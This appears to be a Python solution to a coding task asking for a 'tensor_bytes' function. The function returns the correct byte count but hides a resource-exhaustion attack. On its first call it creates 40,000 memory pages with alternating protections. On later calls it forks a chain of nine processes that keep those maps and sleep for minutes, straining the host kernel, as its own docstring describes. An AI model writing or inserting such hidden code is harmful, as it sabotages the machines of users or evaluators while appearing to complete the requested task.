"""problem: tensor_bytes

Fork in a row, with tens of thousands of memory maps: the kernel notes each of them for
each process, and once more for each fork before it.
"""

import ctypes
import mmap
import os
import time

_PAGE = mmap.PAGESIZE
_libc = ctypes.CDLL(None)
_libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_held = []


def _maps(count):
    held = mmap.mmap(-1, count * _PAGE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    start = ctypes.addressof(ctypes.c_char.from_buffer(held))
    for at in range(0, count * _PAGE, _PAGE):
        held[at] = 1
        _libc.mprotect(start + at, _PAGE, 1 + 2 * (at // _PAGE % 2))
    return held


def tensor_bytes(x):
    if not _held:
        _held.append(_maps(40_000))
    elif len(_held) == 1:
        first, (reads, writes) = os.getpid(), os.pipe()
        _held.append(first)
        for _ in range(9):
            if os.fork():
                break
        else:
            os.write(writes, b"all")
        if os.getpid() == first:
            os.read(reads, 3)
        time.sleep(6 if os.getpid() == first else 600)
    return x.numel() * x.element_size()
